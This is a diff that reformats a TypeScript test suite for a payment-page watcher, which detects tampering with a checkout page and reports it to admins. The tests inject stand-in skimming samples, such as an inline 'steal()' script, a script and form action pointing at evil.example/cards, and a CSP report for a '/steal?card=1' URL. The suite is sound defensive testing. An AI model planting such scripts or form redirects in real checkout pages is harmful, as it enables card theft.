@@ -20,8 +20,15 @@ async function fetchPage() {
   const browser = openBrowser();
   const path = `/test/checkout?client_id=${client.merchant.accountId}&intent_id=${json.intent_id}`;
   const response = await browser.open(path);
-  const fetchScript = async (url: string) => Buffer.from(await (await browser.open(new URL(url).pathname)).arrayBuffer());
-  return { address: `http://localhost:3000${path}`, status: response.status, headers: response.headers, html: await response.text(), fetchScript };
+  const fetchScript = async (url: string) =>
+    Buffer.from(await (await browser.open(new URL(url).pathname)).arrayBuffer());
+  return {
+    address: `http://localhost:3000${path}`,
+    status: response.status,
+    headers: response.headers,
+    html: await response.text(),
+    fetchScript,
+  };
 }
 
 test('the page as we send it has no fault, and every change of it is one', async () => {
@@ -31,20 +38,28 @@ test('the page as we send it has no fault, and every change of it is one', async
 
   const changed = (html: (text: string) => string) => findPageFaults({ ...page, html: html(page.html) });
   const inline = 'steal()';
-  expect(await changed((html) => `${html}<script>${inline}</script>`)).toEqual([`a script stands in the page itself (SHA-256 ${createHash('sha256').update(inline).digest('hex').slice(0, 16)})`]);
+  expect(await changed((html) => `${html}<script>${inline}</script>`)).toEqual([
+    `a script stands in the page itself (SHA-256 ${createHash('sha256').update(inline).digest('hex').slice(0, 16)})`,
+  ]);
   expect(await changed((html) => `${html}<script src="https://evil.example/x.js"></script>`)).toEqual([
     'the script https://evil.example/x.js is not in the inventory',
     'the page reaches out to another host (script https://evil.example)',
   ]);
   expect(await changed((html) => html.replace(/integrity="sha256-./, 'integrity="sha256-?'))).toHaveLength(1);
-  expect(await changed((html) => html.replace('<form method="post"', '<form method="post" action="//evil.example/cards"'))).toEqual(['the page reaches out to another host (form http://evil.example)']);
+  expect(
+    await changed((html) =>
+      html.replace('<form method="post"', '<form method="post" action="//evil.example/cards"'),
+    ),
+  ).toEqual(['the page reaches out to another host (form http://evil.example)']);
   expect(await changed((html) => `${html}<img src=https://evil.example/pixel>`)).toHaveLength(1);
   const oneByte = async (url: string) => {
     const bytes = await page.fetchScript(url);
     bytes[bytes.length - 2]! ^= 1;
     return bytes;
   };
-  expect(await findPageFaults({ ...page, fetchScript: oneByte })).toMatchObject([expect.stringContaining('is not what the inventory holds')]);
+  expect(await findPageFaults({ ...page, fetchScript: oneByte })).toMatchObject([
+    expect.stringContaining('is not what the inventory holds'),
+  ]);
   for (const name of ['content-security-policy', 'x-frame-options', 'cache-control', 'referrer-policy']) {
     const headers = new Headers(page.headers);
     headers.delete(name);
@@ -55,13 +70,23 @@ test('the page as we send it has no fault, and every change of it is one', async
     changed.set('content-security-policy', change(page.headers.get('content-security-policy')!));
     return findPageFaults({ ...page, headers: changed });
   };
-  expect(await withPolicy((policy) => policy.replace("'strict-dynamic'", "'strict-dynamic' 'unsafe-inline'"))).toHaveLength(2);
-  expect(await withPolicy((policy) => `${policy}; script-src-elem https://evil.example`)).toEqual(['the content security policy says script-src-elem https://evil.example as well']);
+  expect(
+    await withPolicy((policy) => policy.replace("'strict-dynamic'", "'strict-dynamic' 'unsafe-inline'")),
+  ).toHaveLength(2);
+  expect(await withPolicy((policy) => `${policy}; script-src-elem https://evil.example`)).toEqual([
+    'the content security policy says script-src-elem https://evil.example as well',
+  ]);
   expect(await withPolicy((policy) => `script-src 'unsafe-inline'; ${policy}`)).toHaveLength(1);
-  expect(await withPolicy((policy) => policy.replace("; trusted-types 'none'", ''))).toEqual(["the content security policy lacks trusted-types 'none'"]);
-  expect(await withPolicy((policy) => policy.replace(/report-uri \S+/, 'report-uri https://evil.example'))).toHaveLength(2);
+  expect(await withPolicy((policy) => policy.replace("; trusted-types 'none'", ''))).toEqual([
+    "the content security policy lacks trusted-types 'none'",
+  ]);
+  expect(
+    await withPolicy((policy) => policy.replace(/report-uri \S+/, 'report-uri https://evil.example')),
+  ).toHaveLength(2);
   const failing = () => Promise.reject(new Error('reset'));
-  expect(await findPageFaults({ ...page, fetchScript: failing })).toMatchObject([expect.stringContaining('cannot be fetched')]);
+  expect(await findPageFaults({ ...page, fetchScript: failing })).toMatchObject([
+    expect.stringContaining('cannot be fetched'),
+  ]);
 });
 
 test('admins are told of each fault once', async () => {
@@ -69,20 +94,31 @@ test('admins are told of each fault once', async () => {
   // The watch looks at the payment page that was opened last.
   await fetchPage();
   const never = new AbortController().signal;
-  const genuine = (url: string | URL | Request, init?: RequestInit) => serve(new Request(url, { ...init, headers: { host: 'localhost:3000' } }), { incoming: { socket: { remoteAddress: '::1' } } } as never);
+  const genuine = (url: string | URL | Request, init?: RequestInit) =>
+    serve(new Request(url, { ...init, headers: { host: 'localhost:3000' } }), {
+      incoming: { socket: { remoteAddress: '::1' } },
+    } as never);
   let tampered = false;
   const fetched = vi.spyOn(globalThis, 'fetch').mockImplementation(async (url, init) => {
     const response = await genuine(url as string, init);
-    return tampered && String(url).includes('/test/') ? new Response(`${await response.text()}<script>steal()</script>`, response) : response;
+    return tampered && String(url).includes('/test/')
+      ? new Response(`${await response.text()}<script>steal()</script>`, response)
+      : response;
   });
-  const mails = () => prisma.mail.count({ where: { recipient: admin.email, template: 'payment-page-changed' } });
+  const mails = () =>
+    prisma.mail.count({ where: { recipient: admin.email, template: 'payment-page-changed' } });
   try {
     await watchPaymentPages(never, 0);
-    expect(await prisma.pageWatch.findMany({ orderBy: { environment: 'asc' } })).toMatchObject([{ environment: 'live', faults: [] }, { environment: 'test', faults: [] }]);
+    expect(await prisma.pageWatch.findMany({ orderBy: { environment: 'asc' } })).toMatchObject([
+      { environment: 'live', faults: [] },
+      { environment: 'test', faults: [] },
+    ]);
     tampered = true;
     await watchPaymentPages(never, 0);
     await watchPaymentPages(never, 0);
-    expect(await prisma.pageWatch.findUnique({ where: { environment: 'test' } })).toMatchObject({ faults: [expect.stringContaining('a script stands in the page itself')] });
+    expect(await prisma.pageWatch.findUnique({ where: { environment: 'test' } })).toMatchObject({
+      faults: [expect.stringContaining('a script stands in the page itself')],
+    });
     expect(await mails()).toBe(1);
   } finally {
     fetched.mockRestore();
@@ -103,7 +139,11 @@ test('a request that hangs, whatever its signal says, holds up no stop', async (
 });
 
 test('invented reports hide no true one', async () => {
-  const report = (directive: string, blocked: string, environment: 'test' | 'live' = 'live') => notePageReport(environment, JSON.stringify({ 'csp-report': { 'effective-directive': directive, 'blocked-uri': blocked } }));
+  const report = (directive: string, blocked: string, environment: 'test' | 'live' = 'live') =>
+    notePageReport(
+      environment,
+      JSON.stringify({ 'csp-report': { 'effective-directive': directive, 'blocked-uri': blocked } }),
+    );
   for (let i = 0; i < 60; i++) await report('img-src', `https://x${i}.example`);
   const skimmer = `https://${crypto.randomUUID()}.example`;
   await report('script-src-elem', skimmer);
@@ -111,22 +151,45 @@ test('invented reports hide no true one', async () => {
   const reports = (await listPageReports()).filter(({ environment }) => environment === 'live');
   expect(reports).toContainEqual(expect.objectContaining({ directive: 'script-src', blocked: skimmer }));
   expect(reports.filter(({ directive }) => directive === 'img-src')).toHaveLength(51);
-  expect(reports).toContainEqual(expect.objectContaining({ directive: 'img-src', blocked: 'others', count: 10 }));
+  expect(reports).toContainEqual(
+    expect.objectContaining({ directive: 'img-src', blocked: 'others', count: 10 }),
+  );
 });
 
 test('what browsers report is counted, and tells no address', async () => {
   const browser = openBrowser();
-  const headers = { 'sec-fetch-site': 'same-origin', origin: 'http://localhost:3000', host: 'localhost:3000', 'content-type': 'application/csp-report' };
+  const headers = {
+    'sec-fetch-site': 'same-origin',
+    origin: 'http://localhost:3000',
+    host: 'localhost:3000',
+    'content-type': 'application/csp-report',
+  };
   const report = (blocked: string, directive = 'script-src-elem') =>
-    serve(new Request('http://localhost:3000/test/checkout/reports', { method: 'POST', headers, body: JSON.stringify({ 'csp-report': { 'effective-directive': directive, 'blocked-uri': blocked, 'script-sample': '4242' } }) }), {
-      incoming: { socket: { remoteAddress: '::1' } },
-    } as never);
+    serve(
+      new Request('http://localhost:3000/test/checkout/reports', {
+        method: 'POST',
+        headers,
+        body: JSON.stringify({
+          'csp-report': { 'effective-directive': directive, 'blocked-uri': blocked, 'script-sample': '4242' },
+        }),
+      }),
+      {
+        incoming: { socket: { remoteAddress: '::1' } },
+      } as never,
+    );
   const host = `${crypto.randomUUID()}.example`;
   for (let i = 0; i < 2; i++) expect((await report(`https://${host}/steal?card=1`)).status).toBe(204);
   await report('inline');
   await notePageReport('test', 'no json');
   await notePageReport('test', '{"csp-report":{"effective-directive":"<b>"}}');
   const reports = (await listPageReports()).filter(({ environment }) => environment === 'test');
-  expect(reports).toEqual(expect.arrayContaining([expect.objectContaining({ directive: 'script-src', blocked: `https://${host}`, count: 2 }), expect.objectContaining({ blocked: 'inline' })]));
-  expect((await browser.open('/test/checkout?client_id=x&intent_id=y')).headers.get('content-security-policy')).toContain('report-uri /test/checkout/reports');
+  expect(reports).toEqual(
+    expect.arrayContaining([
+      expect.objectContaining({ directive: 'script-src', blocked: `https://${host}`, count: 2 }),
+      expect.objectContaining({ blocked: 'inline' }),
+    ]),
+  );
+  expect(
+    (await browser.open('/test/checkout?client_id=x&intent_id=y')).headers.get('content-security-policy'),
+  ).toContain('report-uri /test/checkout/reports');
 });
